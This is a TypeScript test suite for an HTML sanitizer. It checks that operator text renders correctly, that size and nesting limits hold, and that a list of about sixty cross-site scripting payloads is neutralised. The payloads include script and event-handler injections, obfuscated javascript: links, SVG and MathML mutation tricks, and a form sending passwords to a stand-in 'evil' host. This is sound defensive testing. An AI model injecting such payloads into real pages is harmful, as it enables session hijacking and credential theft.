// Each text is rendered as the page renders it, then parsed again: the tests check what a browser would see.
import { parseFragment } from "parse5"
import { createElement } from "react"
import { renderToStaticMarkup } from "react-dom/server"
import { describe, expect, test } from "vitest"
import { ServerHtml } from "#app/components/server-html.tsx"
import { TranslationProvider } from "#app/locales/language.ts"
import { safeHtml } from "./safe-html.server.ts"

/** The markup inside the component's own wrapper. */
function shown(html: string): string {
  const safe = safeHtml(html)
  if (!safe) throw new Error("beyond the budget")
  const page = createElement(TranslationProvider, { value: { language: "en", t: key => key } }, [
    createElement(ServerHtml, { html: safe, language: undefined, key: "text" }),
  ])
  const markup = renderToStaticMarkup(page)
  return markup.replace(/^<div class="server-html "(?: lang="\w+")?>(.*)<\/div>$/s, "$1")
}

type Seen = {
  nodeName: string
  attrs?: { name: string; value: string }[]
  childNodes?: Seen[]
  content?: Seen
}

function everything(node: Seen): Seen[] {
  return [node, ...[...(node.childNodes ?? []), ...(node.content ? [node.content] : [])].flatMap(everything)]
}

const allowedElements = new Set(
  "p div span br hr blockquote pre address figure figcaption h3 h4 h5 h6 b strong i em u s del ins mark small sub sup code q time ul ol li dl dt dd details summary table caption thead tbody tfoot tr th td a img"
    .split(" ")
    .concat("#text", "#document-fragment"),
)
const allowedAttributes = new Set(
  "href rel src alt width height loading referrerpolicy start colspan rowspan scope lang dir".split(" "),
)

/** A link opens a new tab, and says so. */
const ownAttributes = new Set(["target=_blank", "class=sr-only"])

/** Elements, attributes and addresses in the markup that are not allowed. */
function dangers(markup: string): string[] {
  return everything(parseFragment(markup) as unknown as Seen).flatMap(node => [
    ...(allowedElements.has(node.nodeName) ? [] : [`<${node.nodeName}>`]),
    ...(node.attrs ?? []).flatMap(({ name, value }) => {
      if (ownAttributes.has(`${name}=${value}`)) return []
      if (!allowedAttributes.has(name)) return [`${name}=${value}`]
      if (name === "href" && !/^(https?:\/\/|mailto:|tel:)/.test(value)) return [`href=${value}`]
      if (name === "src" && !/^(https:\/\/|data:image\/)/.test(value)) return [`src=${value}`]
      return []
    }),
  ])
}

describe("text that operators write", () => {
  test.each([
    ["<p>ฝาก<b>ขั้นต่ำ</b> 100<br>บาท</p>", "<p>ฝาก<b>ขั้นต่ำ</b> 100<br/>บาท</p>"],
    ["<ul><li>ໜຶ່ງ<li>ສອງ</ul>", "<ul><li>ໜຶ່ງ</li><li>ສອງ</li></ul>"],
    ["plain &amp; <3", "plain &amp; &lt;3"],
    ["<h1>A</h1><h2>B</h2><h6>C</h6>", "<h3>A</h3><h4>B</h4><h6>C</h6>"],
    ["<div><h3>A</h3></div><h4>B</h4>", "<div><h3>A</h3></div><h4>B</h4>"],
    ["<h2>A</h2><h3>B</h3>", "<h3>A</h3><h4>B</h4>"],
    [
      "<table><tr><th scope=col colspan=2>x<td>y</table>",
      '<table><tbody><tr><th scope="col" colSpan="2">x</th><td>y</td></tr></tbody></table>',
    ],
    [
      '<a href="https://example.com/a?b=1&c=2" target="_blank">x</a>',
      '<a href="https://example.com/a?b=1&amp;c=2" rel="noopener noreferrer nofollow" target="_blank">x<span class="sr-only"> (common.newTab)</span></a>',
    ],
    [
      '<a href="tel:021234567">call</a>',
      '<a href="tel:021234567" rel="noopener noreferrer nofollow">call</a>',
    ],
    [
      '<img src="https://example.com/a.png" alt="map" width="300" height="211" onerror="x">',
      '<img src="https://example.com/a.png" alt="map" width="300" height="211" loading="lazy" referrerPolicy="no-referrer"/>',
    ],
    [
      '<img src="data:image/png;base64,AAAA">',
      '<img src="data:image/png;base64,AAAA" alt="" loading="lazy" referrerPolicy="no-referrer"/>',
    ],
    ["<font color=red>red</font> <center>mid</center>", "red mid"],
    ['<p style="color:red" class="a" id="b">x</p>', "<p>x</p>"],
  ])("%s", (html, expected) => {
    expect(shown(html)).toBe(expected)
    expect(dangers(shown(html))).toEqual([])
  })

  test("the same text is made safe once", () => {
    const once = safeHtml("<p>once</p>")
    expect(safeHtml("<p>once</p>")).toBe(once)
    for (let more = 0; more < 50; more++) safeHtml("x".repeat(256 * 1024 + 1 + more))
    expect(safeHtml("<p>once</p>")).toBe(once)
  })
})

const hostile = [
  "<script>alert(1)</script>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<img src=x onerror=alert(1)>",
  "<img src='https://a/b.png'onload=alert(1)>",
  "<img src=javascript:alert(1)>",
  "<img src='data:text/html,<script>alert(1)</script>'>",
  "<img srcset='https://evil/x.png 1x' src='//evil/x.png'>",
  "<p onclick=alert(1) onmouseover=alert(1)>x</p>",
  "<body onload=alert(1)>x",
  "<html onfocus=alert(1)>x",
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" java\nscript:alert(1)">x</a>',
  '<a href="java&#115;cript:alert(1)">x</a>',
  '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:x">x</a>',
  '<a href="https://evil.example" style="position:fixed" class="btn" onclick=alert(1) download ping=/x>x</a>',
  '<a href="ftp://evil.example">x</a><a href="intent://evil#Intent;end">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/logout">x</a>',
  '<a href="https:evil" href="javascript:alert(1)">x</a>',
  "<svg onload=alert(1)><script>alert(1)</script></svg>",
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">x</math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  "<object data=javascript:alert(1)></object><embed src=x>",
  "<form action=https://evil><input name=password><button>x</button></form>",
  '<input autofocus onfocus=alert(1)><button formaction="javascript:alert(1)">x</button>',
  '<meta http-equiv=refresh content="0;url=https://evil">',
  '<base href="https://evil/"><link rel=stylesheet href=https://evil/x.css>',
  "<style>@import 'https://evil'</style><p style='background:url(https://evil)'>x</p>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<template><script>alert(1)</script></template>",
  "<textarea></textarea><img src=x onerror=alert(1)>",
  "<title><img src=x onerror=alert(1)></title>",
  "<xmp><img src=x onerror=alert(1)></xmp>",
  "<plaintext><img src=x onerror=alert(1)>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<!-- --!><img src=x onerror=alert(1)> -->",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "<b><p></b><i></p><img src=x onerror=alert(1)></i>",
  "<table><a href=javascript:alert(1)><td><script>alert(1)</script>",
  "</div></div></body><script>alert(1)</script>",
  "<details open ontoggle=alert(1)><summary>x</summary></details>",
  "<marquee onstart=alert(1)>x</marquee><blink>x</blink>",
  "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
  "<x-island data-url=x>x</x-island><copy-button>x</copy-button>",
  "<p id=login-username class='fixed inset-0' name=getElementById data-x=1 aria-hidden=true>x</p>",
  "<dialog open>x</dialog><div popover>x</div>",
  "<img src='https://a' alt='\"><script>alert(1)</script>'>",
  "<p lang='\" onclick=alert(1)'>x</p>",
  "<a href='https://evil\" onclick=\"alert(1)'>x</a>",
  "\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>",
  "<<script>alert(1);//<</script>",
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  "<ol start='1 onclick=alert(1)'><li value=9 type=a>x</ol>",
  "<td colspan=1000000 rowspan=1000000>x</td>",
]

test.each(hostile)("hostile: %j", html => {
  const markup = shown(html)
  expect(dangers(markup)).toEqual([])
  expect(markup).not.toMatch(/evil\.css|<script/i)
})

test("hostile texts in one another and in any order", () => {
  for (const outer of hostile) {
    for (const inner of hostile) expect(dangers(shown(`<div>${outer}<p>${inner}`))).toEqual([])
  }
})

describe("budget", () => {
  test.each([
    ["longer than 256 KB", "x".repeat(256 * 1024 + 1)],
    ["deeper than 64", "<div>".repeat(65)],
    ["fifty thousand levels", "<div>".repeat(50_000)],
    [
      "elements that multiply",
      `${Array.from({ length: 700 }, (_, i) => `<b a${i}>`).join("")}${"<p>".repeat(700)}`,
    ],
    ["too many elements", "<br>".repeat(10_001)],
  ])("%s is not shown", (_, html) => {
    expect(safeHtml(html)).toBeUndefined()
  })

  test("a text within the budget is shown", () => {
    expect(shown("<div>".repeat(60))).toContain("<div>")
    expect(shown("<br>".repeat(9_000))).toHaveLength(9_000 * "<br/>".length)
    expect(shown("x".repeat(256 * 1024))).toHaveLength(256 * 1024)
  })
})
